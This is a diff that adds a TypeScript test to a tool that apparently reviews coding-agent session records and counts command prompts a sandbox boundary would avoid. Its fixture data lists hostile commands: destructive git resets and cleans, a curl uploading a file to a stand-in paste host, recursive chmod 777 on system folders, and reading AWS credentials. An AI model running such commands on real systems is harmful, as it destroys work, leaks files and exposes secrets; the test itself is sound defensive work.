@@ -196,6 +196,32 @@ test('80 columns hold every line, and no control character of a record reaches t
   expect(lines.join('\n')).toContain('␛')
 })
 
+test('it says how many questions about commands a boundary would save, and nothing where it would save none', async () => {
+  const { commands: before } = await lookAt(fixtures, { clients: ['claude-code'] })
+  const count = async (commands: readonly string[]) => {
+    const home = scratchHome(true)
+    addCommands(home, commands)
+    const found = await lookAt(home, { clients: ['claude-code'] })
+    const { outside, inside } = found.commands
+    return { asked: outside - before.outside, left: inside - before.inside, found }
+  }
+  // They lose what lies in the workspace, turn to a host, or run what a host gave.
+  const kept = await count([
+    'git reset --hard HEAD~5',
+    'curl -d @a.txt https://paste.example/',
+    'git clean -fdx',
+  ])
+  expect(kept).toMatchObject({ asked: 3, left: 3 })
+  expect(lookbackLines(kept.found, paint, 80).join('\n')).not.toContain('Inside a boundary')
+  const saved = await count(['chmod -R 777 /etc', 'chmod -R 777 /usr/local', 'cat ~/.aws/credentials'])
+  // The key that the last one names is shown to it.
+  expect(saved).toMatchObject({ asked: 3, left: 1 })
+  const { outside, inside } = saved.found.commands
+  expect(lookbackLines(saved.found, paint, 200).join('\n')).toContain(
+    `Inside a boundary: ${outside - inside} of the ${outside} questions about commands would not be asked`,
+  )
+})
+
 test('without records it says so, and which clients are read', async () => {
   const lines = lookbackLines(await lookAt(scratchHome()), paint, 80)
   expect(lines.join(' ')).toMatch(/No session records were found .*claude-code, codex/)
